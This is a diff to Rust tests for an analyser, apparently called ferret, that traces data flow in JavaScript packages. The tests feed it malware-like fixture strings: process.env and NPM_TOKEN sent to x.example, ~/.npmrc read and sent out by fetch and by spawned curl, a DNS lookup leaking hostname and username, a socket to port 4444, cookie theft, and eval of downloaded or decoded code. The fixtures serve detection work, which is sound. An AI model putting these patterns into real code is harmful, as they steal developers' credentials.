@@ -2,6 +2,7 @@
 //! must stay silent.
 
 use super::*;
+use ferret_core::facts::Source;
 use ferret_core::{Capability, ImportKind, StringFact, UseKind};
 
 fn analyze(path: &str, src: &str) -> FileFacts {
@@ -328,7 +329,6 @@ fn env_reads_record_names() {
 fn whole_env_reads() {
     for src in [
         "JSON.stringify(process.env)",
-        "Object.keys(process.env)",
         "Object.entries(global.process.env)",
         "const x = {...process.env}",
         "send(process.env)",
@@ -353,6 +353,154 @@ fn whole_env_reads() {
         uses(&f)
     );
     assert_eq!(f.uses_of(ENV).count(), 2);
+}
+
+#[test]
+fn env_key_enumeration_is_not_a_whole_env_read() {
+    // `debug` reads its `DEBUG_*` options this way: names, not values.
+    let f = analyze(
+        "index.js",
+        "Object.keys(process.env).filter(k => /^debug_/i.test(k))",
+    );
+    let details: Vec<_> = f.uses_of(ENV).filter_map(|u| u.detail.as_deref()).collect();
+    assert_eq!(details, ["keys"]);
+}
+
+// ------------------------------------------------------------------------------ data flow
+
+fn call<'f>(f: &'f FileFacts, callee: &str) -> &'f ferret_core::CallFact {
+    f.calls
+        .iter()
+        .find(|c| c.callee == callee)
+        .unwrap_or_else(|| panic!("no call {callee}: {:#?}", f.calls))
+}
+
+#[test]
+fn calls_carry_their_function_scope() {
+    let src = "fetch('a');\nfunction f() { fetch('b'); const g = () => fetch('c'); }\nfetch('d');";
+    let f = analyze("index.js", src);
+    let scopes: Vec<(Option<&str>, u32)> = f
+        .calls
+        .iter()
+        .map(|c| (c.args[0].as_deref(), c.scope))
+        .collect();
+    assert_eq!(
+        scopes,
+        [
+            (Some("a"), 0),
+            (Some("b"), 1),
+            (Some("c"), 2),
+            (Some("d"), 0)
+        ]
+    );
+    assert_eq!(f.functions.len(), 2);
+    // Uses and strings find their scope from their location.
+    let at = |needle: &str| src.find(needle).map_or(u32::MAX, |o| o as u32);
+    assert_eq!(f.scope_at(at("'c'")), 2);
+    assert_eq!(f.scope_at(at("'b'")), 1);
+    assert_eq!(f.scope_at(at("'d'")), 0);
+}
+
+#[test]
+fn env_flows_into_a_request_body_through_locals() {
+    let src = "const https = require('https');
+const env = JSON.stringify(process.env);
+const data = require('querystring').stringify({ data: env });
+const req = https.request({ host: 'x.example', method: 'POST' });
+req.write(data);
+req.end(Buffer.from(process.env.NPM_TOKEN).toString('base64'));";
+    let f = analyze("index.js", src);
+    let write = call(&f, "https.request().write");
+    assert_eq!(write.arg_sources, [vec![Source::EnvAll]]);
+    let end = call(&f, "https.request().end");
+    assert_eq!(end.arg_sources, [vec![Source::EnvVar]]);
+    assert!(has(
+        &f,
+        Capability::Network,
+        "https.request().write",
+        UseKind::Call
+    ));
+    // The request options carry nothing.
+    assert!(call(&f, "https.request").arg_sources.is_empty());
+}
+
+#[test]
+fn sources_reach_urls_dns_names_and_eval() {
+    let src = "const os = require('os'), dns = require('dns'), fs = require('fs');
+const h = os.hostname() + '.' + os.userInfo().username;
+dns.lookup(`${h}.x.example`, () => {});
+let q; q = encodeURIComponent(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'));
+fetch('https://x.example/?q=' + q);
+(async () => { const body = await (await fetch('https://x.example/s')).text(); eval(body); })();
+eval(atob('Y29uc29sZS5sb2coMSk7IGZldGNoKCk='));";
+    let f = analyze("index.js", src);
+    assert_eq!(call(&f, "dns.lookup").arg_sources[0], [Source::SystemInfo]);
+    let fetches: Vec<_> = f.calls.iter().filter(|c| c.callee == "fetch").collect();
+    assert_eq!(fetches[0].arg_sources, [vec![Source::FileRead]]);
+    let evals: Vec<_> = f.calls.iter().filter(|c| c.callee == "eval").collect();
+    assert_eq!(evals[0].arg_sources, [vec![Source::Download]]);
+    assert_eq!(evals[1].arg_sources, [vec![Source::Decoded]]);
+}
+
+#[test]
+fn untainted_calls_record_no_sources() {
+    let src = "const os = require('os');
+const names = Object.keys(process.env);
+fetch('https://x.example', { body: JSON.stringify(names), headers: { 'x': os.platform() } });";
+    let f = analyze("index.js", src);
+    assert!(call(&f, "fetch").arg_sources.is_empty(), "{:#?}", f.calls);
+}
+
+#[test]
+fn calls_on_channel_objects_are_recorded() {
+    let src = "const net = require('net');
+const s = new net.Socket(); s.connect(4444, '198.51.100.7'); s.write(process.env.HOME);
+const c = net.connect(1); c.write('x');
+const x = new XMLHttpRequest(); x.open('POST', 'https://x.example'); x.send(document.cookie);
+new module.constructor()._compile(code, 'x.js');";
+    let f = analyze("index.js", src);
+    assert_eq!(
+        call(&f, "net.Socket().connect").args[1].as_deref(),
+        Some("198.51.100.7")
+    );
+    assert_eq!(
+        call(&f, "net.Socket().write").arg_sources,
+        [vec![Source::EnvVar]]
+    );
+    call(&f, "net.connect().write");
+    assert!(has(
+        &f,
+        Capability::Network,
+        "XMLHttpRequest.prototype.send",
+        UseKind::Call
+    ));
+    assert!(has(
+        &f,
+        Capability::DynamicCode,
+        "module._compile",
+        UseKind::Call
+    ));
+}
+
+#[test]
+fn spawn_argv_arrays_are_folded_to_a_command_line() {
+    let src =
+        "require('child_process').spawn('curl', ['-d', '@' + '~/.npmrc', 'https://x.example']);";
+    let f = analyze("index.js", src);
+    let c = call(&f, "child_process.spawn");
+    assert_eq!(c.args[1].as_deref(), Some("-d @~/.npmrc https://x.example"));
+}
+
+#[test]
+fn taint_of_a_huge_concatenation_stays_bounded() {
+    // A 20,000-term chain is walked iteratively, never recursively, and within fuel.
+    let mut src = String::from("const a = process.env.X");
+    for _ in 0..20_000 {
+        src.push_str(" + b");
+    }
+    src.push_str(";\nfetch(a);");
+    let f = analyze("index.js", &src);
+    assert_eq!(call(&f, "fetch").arg_sources, [vec![Source::EnvVar]]);
 }
 
 #[test]
